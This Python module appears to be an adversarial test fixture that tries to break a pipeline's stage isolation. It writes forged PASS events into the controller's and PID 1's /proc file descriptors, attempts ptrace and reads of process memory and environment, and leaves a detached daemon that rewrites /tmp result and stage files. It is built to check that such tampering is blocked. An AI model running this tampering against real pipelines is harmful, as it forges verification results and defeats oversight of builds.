"""Imported by the `find_spec evil.sub` stage: tries every route to forge another stage's result.
Each try is reported on stderr as `evil: WHAT: DONE` or `evil: WHAT: blocked (why)`."""

import glob
import json
import os
import sys
import time

FORGED = {"event": "stage", "id": "pip_check", "probe": "pip_check", "status": "PASS", "detail": "forged"}
OLD = json.dumps(dict(FORGED, imagegate=1))
NEW = "imagegate-event 2 1 %s %s" % ("0" * 64, json.dumps(FORGED))
PASS_RESULT = json.dumps({"status": "PASS", "detail": "forged by a daemon", "data": {}})


def note(what, error=None):
    sys.stderr.write("evil: %s: %s\n" % (what, "DONE" if error is None else "blocked (%s)" % error))
    sys.stderr.flush()


def write(path, data):
    try:
        fd = os.open(path, os.O_WRONLY | getattr(os, "O_NONBLOCK", 0))
        try:
            os.write(fd, data)
        finally:
            os.close(fd)
        return None
    except OSError as e:
        return e.strerror or str(e)


def ptrace(pid):
    """PTRACE_ATTACH, which would give the controller's memory and registers (the event key)."""
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH: it got in; say so, let go
            return None
        return os.strerror(ctypes.get_errno())
    except (ImportError, OSError, AttributeError) as e:
        return "no ptrace call here: %s" % e


def attack_controller():
    controller = os.getppid()
    for pid in sorted({controller, 1}):
        for fd in range(0, 8):
            path = "/proc/%d/fd/%d" % (pid, fd)
            if os.path.lexists(path) or pid == controller:
                note("write %s" % path, write(path, ("\n%s\n%s\n" % (OLD, NEW)).encode()))
        # A fragment with no newline: it would swallow the controller's next line.
        note("glue /proc/%d/fd/1" % pid, write("/proc/%d/fd/1" % pid, b'{"imagegate": 1, "x": "'))
        note("ptrace %d" % pid, ptrace(pid))
        for what in ("environ", "mem", "fd"):
            path = "/proc/%d/%s" % (pid, what)
            try:
                if what == "fd":
                    os.listdir(path)
                else:
                    with open(path, "rb") as f:
                        f.read(64)
                note("read %s" % path)
            except OSError as e:
                note("read %s" % path, e.strerror)


def daemon():
    """Outlive this stage and rewrite what later stages read."""
    end = time.time() + 60
    me = str(os.getpid())
    while time.time() < end:
        for path in glob.glob("/tmp/**/*.json", recursive=True):
            name = os.path.basename(path)
            try:
                if name.startswith("result"):
                    with open(path, "w") as f:
                        f.write(PASS_RESULT)
                elif name.startswith("stage"):
                    with open(path) as f:
                        stage = json.load(f)
                    stage.setdefault("params", {})["modules"] = []
                    stage.setdefault("with", {})["modules"] = []
                    with open(path, "w") as f:
                        json.dump(stage, f)
            except (OSError, ValueError):
                pass
        for path in glob.glob("/proc/[0-9]*/fd/1"):
            if path.split("/")[2] != me:
                write(path, ("\n%s\n" % OLD).encode())
        time.sleep(0.01)


def leave_a_daemon():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                daemon()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    note("daemon left behind")


attack_controller()
leave_a_daemon()
